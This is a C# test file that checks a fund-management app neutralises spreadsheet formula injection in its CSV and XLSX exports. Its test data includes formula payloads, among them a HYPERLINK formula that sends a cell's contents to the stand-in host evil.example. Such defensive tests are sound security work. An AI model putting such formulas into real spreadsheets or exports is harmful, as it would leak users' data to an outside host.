using System.Net;
using System.Text;
using Bundlinje.Common;
using Bundlinje.Security;
using Bundlinje.Tests.Infrastructure;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace Bundlinje.Tests.Security;

/// <summary>Text a spreadsheet would evaluate is written as text in every CSV and XLSX export; numbers stay numbers.</summary>
public sealed class FormulaInjectionTests : IAsyncLifetime
{
    private BundlinjeFactory factory = null!;
    public ValueTask InitializeAsync() { factory = BundlinjeFactory.Sqlite(); return ValueTask.CompletedTask; }
    public async ValueTask DisposeAsync() => await factory.DisposeAsync();

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"klik\")", "'=HYPERLINK(\"http://evil.example\",\"klik\")")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("Honorar til Rådet", "Honorar til Rådet")]
    [InlineData("", "")]
    public void Formula_like_text_gets_a_leading_apostrophe_and_other_text_is_unchanged(string text, string expected) =>
        Assert.Equal(expected, SpreadsheetCell.Text(text));

    [Fact]
    public void Negative_numbers_stay_numbers_in_a_csv_line()
    {
        var line = new StringBuilder().AppendCsvLine("-a,b", -5m, -12, 3.5m).ToString();
        Assert.Equal("\"'-a,b\",-5,-12,3.5\n", line);
    }

    [Fact]
    public async Task A_running_cost_category_that_is_a_formula_is_text_in_the_economics_csv_and_xlsx()
    {
        var client = await Login.AsAsync(factory, Login.Email(Roles.Secretariat));
        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Se her\")";
        var form = new Dictionary<string, string>
        {
            ["Line.Pot"] = "InvestmentFund", ["Line.Kind"] = "RunningCost", ["Line.Basis"] = "Budget", ["Line.FiscalYear"] = "2025",
            ["AmountText"] = "-1.000", ["Line.Category"] = Formula, ["Line.Text"] = "Angreb",
            ["__RequestVerificationToken"] = await Login.TokenAsync(client, "/Funds/aarhus/Ledger/Post"),
        };
        Assert.Equal(HttpStatusCode.Redirect,
            (await client.PostAsync("/Funds/aarhus/Ledger/Post", new FormUrlEncodedContent(form),
                TestContext.Current.CancellationToken)).StatusCode);

        var csv = await client.GetStringAsync("/api/funds/aarhus/economics?format=csv", TestContext.Current.CancellationToken);
        var line = csv.Split('\n').Single(l => l.Contains("HYPERLINK"));
        Assert.StartsWith("\"'=HYPERLINK(", line);
        Assert.DoesNotContain(csv.Split('\n'), l => l.TrimStart('\uFEFF', '"').StartsWith('='));
        Assert.Matches(@",-1(,|$)", line); // the amount (-1 in 1.000 kr.) is still a negative number

        var xlsx = await client.GetByteArrayAsync("/api/funds/aarhus/economics?format=xlsx", TestContext.Current.CancellationToken);
        using var document = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        var cells = document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Cell>().ToList();
        Assert.Contains(cells, c => c.InlineString?.InnerText == "'" + Formula);
        Assert.DoesNotContain(cells, c => c.InlineString?.InnerText.StartsWith('=') == true || c.CellFormula is not null);
        var row = cells.Single(c => c.InlineString?.InnerText == "'" + Formula).Parent!;
        Assert.Contains(row.Elements<Cell>(), c => c.DataType?.Value == CellValues.Number && c.CellValue?.Text == "-1");
    }
}
